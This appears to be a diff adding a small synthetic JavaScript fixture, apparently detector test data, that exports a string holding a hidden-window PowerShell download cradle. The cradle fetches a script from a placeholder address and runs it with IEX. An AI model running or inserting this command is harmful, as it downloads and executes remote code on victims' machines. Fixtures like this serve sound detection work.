@@ -0,0 +1,3 @@
+// Synthetic: a Windows cradle embedded in a JavaScript string.
+const cmd = "powershell -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')\"";
+module.exports = cmd;